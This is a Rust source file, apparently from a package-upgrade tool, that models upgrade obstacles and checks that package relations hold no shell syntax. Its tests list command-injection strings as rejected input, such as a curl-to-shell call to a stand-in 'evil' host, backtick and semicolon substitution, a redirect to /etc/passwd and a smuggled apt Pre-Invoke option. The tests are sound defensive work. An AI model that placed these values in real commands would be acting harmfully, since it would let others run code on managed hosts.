//! What stands in the way of an upgrade, as data.

/// What kind of obstacle: each is a rule of its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    /// No source has a version that the target accepts.
    TargetUnavailable,
    /// Something that it needs is not there, and nothing offers it.
    DependencyMissing,
    /// Something that it needs is there or on offer, and none of it is new enough.
    DependencyTooOld,
    /// It cannot be beside something else.
    Conflict,
    /// Another package would be removed.
    WouldRemove,
    /// A package would go back.
    WouldDowngrade,
    /// A package that would change is on hold.
    Held,
    /// The package database is not in order.
    BrokenState,
    /// The package manager's lock is held.
    Locked,
    /// There is too little space.
    DiskSpace,
    /// An edited configuration file may stop it at a question.
    ConffilePrompt,
    /// A source is not authenticated.
    Unauthenticated,
    /// The lists of packages are old.
    MetadataStale,
    /// The host waits for a boot.
    RebootFirst,
}

impl Kind {
    /// Whether it stops an upgrade; otherwise it is worth a warning.
    pub const fn blocks(self) -> bool {
        !matches!(self, Self::MetadataStale | Self::RebootFirst)
    }
}

/// Who needs what `requires` of the playbook says.
pub(super) const PLAYBOOK: &str = "the playbook";

/// One obstacle on one host.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Obstacle {
    /// Its kind.
    pub kind: Kind,
    /// What it is about: a package, a lock, a mount; with the kind it is what identifies it.
    pub subject: String,
    /// What the upgrade needs of it, in the system's own form: `libssl3t64 (>= 3.3.0)`.
    pub needs: Option<String>,
    /// What is there; `None` is nothing.
    pub observed: Option<String>,
    /// What could be had; `None` is nothing.
    pub candidate: Option<String>,
    /// The package that needs it, where that is not the target itself.
    pub by: Option<String>,
    /// More of it, in words of the host or its solver, already safe to print.
    pub said: Vec<String>,
}

impl Obstacle {
    /// An obstacle of a kind about a subject; the rest is filled in by whoever knows it.
    pub fn new(kind: Kind, subject: impl Into<String>) -> Self {
        Self {
            kind,
            subject: subject.into(),
            needs: None,
            observed: None,
            candidate: None,
            by: None,
            said: Vec::new(),
        }
    }

    /// Whether nothing but the solver's own words is known of it.
    pub fn is_unexplained(&self) -> bool {
        self.kind == Kind::DependencyMissing && self.needs.is_none()
    }

    /// Whether the playbook wants it, by `requires`, and no package does.
    pub fn is_wanted_by_playbook(&self) -> bool {
        self.by.as_deref() == Some(PLAYBOOK)
    }

    /// Whether every field is what it should be: names, versions and relations, and nothing that a shell would run.
    /// The relations of packages are a host's own words, and obstacles become commands of the advice.
    pub(super) fn is_sound(&self) -> bool {
        let word = |text: &str| {
            let brackets = text.starts_with('(') && text.ends_with(')');
            (brackets || !text.contains(' ')) && !text.contains('|') && is_relation(text)
        };
        let by = |by: &String| by == PLAYBOOK || word(by);
        let texts = [&self.needs, &self.observed, &self.candidate];
        word(&self.subject)
            && self.by.as_ref().is_none_or(by)
            && texts.into_iter().flatten().all(|text| is_relation(text))
    }
}

/// How long a relation may be; real ones have some dozens of alternatives.
const LONGEST: usize = 4000;

/// Whether a text is made of names, versions and the signs between them: `a (>= 2) | b`, `libweb>=3`,
/// `libfoo.so.1()(64bit)`, `/usr/bin/x`, with plain words in between.
fn is_relation(text: &str) -> bool {
    let mut bound = false;
    let mut each = text.split(' ').filter(|part| !part.is_empty());
    !text.is_empty()
        && text.len() <= LONGEST
        && each.all(|part| {
            let inside = part.trim_start_matches('(').trim_end_matches(',');
            let sign = is_sign(inside);
            let fits = match (bound, part) {
                (true, _) => is_version(inside.trim_end_matches(')')),
                (false, "|") => true,
                (false, _) => sign || is_bounded(inside),
            };
            bound = sign;
            fits
        })
        && !bound
}

/// `>=`
fn is_sign(text: &str) -> bool {
    (1..=2).contains(&text.len()) && text.chars().all(|one| matches!(one, '<' | '>' | '=' | '~'))
}

/// `libweb`, or `libweb>=3`.
fn is_bounded(text: &str) -> bool {
    let Some((name, rest)) = text.find(['<', '>', '=']).and_then(|at| text.split_at_checked(at)) else {
        return is_name(text);
    };
    let version = rest.trim_start_matches(['<', '>', '=']);
    let sign = rest.len().saturating_sub(version.len());
    is_name(name) && sign <= 2 && is_version(version.trim_end_matches(')'))
}

fn is_name(text: &str) -> bool {
    let bare = text.strip_prefix('!').unwrap_or(text);
    let begins = |first: char| first.is_ascii_alphanumeric() || matches!(first, '_' | '/');
    bare.starts_with(begins)
        && bare.bytes().all(|one| one.is_ascii_alphanumeric() || b"+-._@:~^/()".contains(&one))
}

fn is_version(text: &str) -> bool {
    let begins = |first: char| first.is_ascii_alphanumeric() || first == '_';
    text.starts_with(begins)
        && text.bytes().all(|one| one.is_ascii_alphanumeric() || b".+~:^_-".contains(&one))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relations_of_every_system_and_our_own_sentences_are_sound() {
        for text in [
            "libssl3t64 (>= 3.3.0)",
            "a (>= 2) | b:any (<< 2:1.0~rc1-1+b2), and c",
            "Breaks: php (<< 9)",
            "php (>= 9) for nginx, and php (<< 9) for perl, and 2-1 as it was asked for",
            "libfoo.so.1()(64bit)",
            "libc.so.6(GLIBC_2.34)(64bit)",
            "perl(Foo::Bar) >= 1.2",
            "(moon or sun >= 2)",
            "/usr/bin/x",
            "libweb>=3",
            "so:libnone.so.3",
            "app needs webd<2, webd 2.0-r0",
            "webd 4.0-1.el9 together with oldweb 1:1.0-1.el9",
            "ng (which provides it without a version)",
        ] {
            assert!(is_relation(text), "{text}");
        }
    }

    #[test]
    fn what_a_shell_would_run_is_not() {
        for text in [
            "libssl$(curl${IFS}evil|sh)",
            "libssl`id`",
            "libssl;id",
            "libssl&&id",
            "libssl|sh",
            "libssl > /etc/passwd",
            "libssl (>= $(id))",
            "libssl>/etc/passwd",
            "libssl >",
            "-oDPkg::Pre-Invoke::=id",
            "libssl (>= -y)",
            "'libssl'",
            "libssl\\x",
            "lib*",
            "",
        ] {
            assert!(!is_relation(text), "{text}");
            assert!(!Obstacle::new(Kind::Held, text).is_sound(), "{text}");
            let by = Obstacle { by: Some(text.to_owned()), ..Obstacle::new(Kind::Held, "nginx") };
            assert!(!by.is_sound(), "{text}");
        }
        assert!(!Obstacle::new(Kind::Held, "nginx openssl").is_sound(), "two names are none");
    }
}
